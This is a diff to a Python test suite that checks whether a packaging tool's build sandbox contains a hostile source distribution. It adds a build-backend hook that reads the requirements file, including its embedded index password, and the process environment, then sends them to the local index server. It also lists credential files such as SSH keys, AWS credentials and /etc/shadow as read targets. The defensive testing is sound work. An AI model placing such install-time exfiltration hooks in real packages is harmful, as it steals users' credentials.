@@ -26,6 +26,7 @@ from tests.hostile.registry_server import HostileServer
 
 CANARY_FILE = "canary-home-file-5d1e"
 CANARY_ENV = "canary-env-secret-8b3a"
+CANARY_INDEX = "canary-index-password-41c7"
 
 BACKEND = r'''
 import base64, hashlib, json, os, socket, zipfile
@@ -36,6 +37,7 @@ READ = {read!r}
 WRITE = {write!r}
 PORT = {port!r}
 LIST = {listed!r}
+EXFIL = {exfil!r}  # (index port, the project's requirements file): what the resolution's run can read
 
 
 def _try(f):
@@ -92,12 +94,23 @@ def _wheel(directory, extra):
     return filename
 
 
+def _exfiltrate():
+    """Send what this run can read to the one host it can reach (the index): the requirements
+    file (its index URL's password) and the environment."""
+    import urllib.parse, urllib.request
+    port, req = EXFIL
+    data = json.dumps({{"req": _try(lambda: open(req).read()), "env": dict(os.environ)}})
+    url = "http://127.0.0.1:%d/exfil?d=%s" % (port, urllib.parse.quote(data[:6000]))
+    return _try(lambda: urllib.request.urlopen(url, timeout=5).status)
+
+
 def get_requires_for_build_wheel(config_settings=None):
     return []
 
 
 def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
     probe()  # the resolver's call: the same attempts, in the resolution's sandbox
+    _exfiltrate()
     dist = os.path.join(metadata_directory, "%s-%s.dist-info" % (NAME, VERSION))
     os.makedirs(dist)
     with open(os.path.join(dist, "METADATA"), "w") as f:
@@ -120,12 +133,13 @@ BENIGN = {"setup.py": "from setuptools import setup\nsetup(name='lsbenign', vers
           "pyproject.toml": '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n'}
 
 
-def _backend_sdist(dest: Path, name: str, mode: str, home: Path, escape: Path, port: int) -> Path:
+def _backend_sdist(dest: Path, name: str, mode: str, home: Path, escape: Path, port: int,
+                   exfil: tuple[int, str] = (0, "")) -> Path:
     read = [str(home / ".aws" / "credentials"), str(home / ".docker" / "config.json"), str(home / ".ssh" / "id_rsa"),
             "/etc/shadow", f"/proc/{os.getpid()}/environ"]
     write = [str(escape), str(home / "escaped"), "/usr/lib/escaped", "/etc/escaped"]
     listed = [str(home), str(Path.home()), "/etc"]
-    backend = BACKEND.format(name=name, mode=mode, read=read, write=write, port=port, listed=listed)
+    backend = BACKEND.format(name=name, mode=mode, read=read, write=write, port=port, listed=listed, exfil=exfil)
     pyproject = '[build-system]\nrequires = []\nbuild-backend = "probe_backend"\nbackend-path = ["."]\n'
     return write_sdist(dest, name, {"pyproject.toml": pyproject, "probe_backend.py": backend})
 
@@ -149,10 +163,11 @@ def canary_service() -> HostileServer:
 
 def _project(tmp_path: Path, index: PackageIndex, names: list[str]) -> Path:
     app = tmp_path / "proj"
-    app.mkdir()
+    app.mkdir(exist_ok=True)
     (app / "main.py").write_text("def handler(event, context):\n    return 1\n")
     (app / "lambdaship.toml").write_text('function_name = "sd"\nhandler = "main.handler"\npython = "3.11"\n')
-    (app / "requirements.txt").write_text(f"--extra-index-url {index.url}\n" + "".join(f"{n}==1.0\n" for n in names))
+    url = index.url.replace("://", f"://lsuser:{CANARY_INDEX}@")  # an index password in the file
+    (app / "requirements.txt").write_text(f"--extra-index-url {url}\n" + "".join(f"{n}==1.0\n" for n in names))
     return app
 
 
@@ -178,10 +193,13 @@ def test_hostile_sdist_builds_in_the_sandbox_and_sees_nothing_of_the_host(
 ) -> None:
     escape = tmp_path / "ESCAPED"
     with PackageIndex() as index:
-        index.add(_backend_sdist(tmp_path / "dist", "lsprobe_hostile", "probe", home, escape, canary_service.port))
+        exfil = (index.server.port, str(tmp_path / "proj" / "requirements.txt"))
+        index.add(_backend_sdist(tmp_path / "dist", "lsprobe_hostile", "probe", home, escape, canary_service.port,
+                                 exfil))
         index.add(write_sdist(tmp_path / "dist", "lsbenign", BENIGN))
         app = _project(tmp_path, index, ["lsprobe_hostile", "lsbenign"])
         r = _size(app, tmp_path, home)
+        sent = [req.query["d"][0] for req in index.server.seen if req.path == "/exfil"]
     assert r.returncode == 0, r.stderr
     tree = _tree(tmp_path)
     assert (tree / "lsbenign.py").read_text() == "VALUE = 'benign'\n"  # the benign sdist's ordinary wheel
@@ -199,8 +217,10 @@ def test_hostile_sdist_builds_in_the_sandbox_and_sees_nothing_of_the_host(
     assert all(v.startswith("denied") for v in found["connect"].values()), found["connect"]
     assert all("403" in v or v.startswith("denied") for v in found["tunnel"].values()), found["tunnel"]
     assert canary_service.seen == []  # neither the resolution's nor the build's run reached it
+    assert sent and "lsprobe_hostile==1.0" in sent[0]  # the resolution's run read the file and reached the index
+    assert not [c for c in (CANARY_INDEX, CANARY_FILE, CANARY_ENV) if c in "".join(sent)], sent
     everything = r.stdout + r.stderr + _everything(tmp_path / "lshome")
-    assert CANARY_FILE not in everything and CANARY_ENV not in everything
+    assert not [c for c in (CANARY_INDEX, CANARY_FILE, CANARY_ENV) if c in everything]
 
 
 HOSTILE_WHEELS = {  # what the one line says (uv's own check of the wheel's name, or lambdaship's)
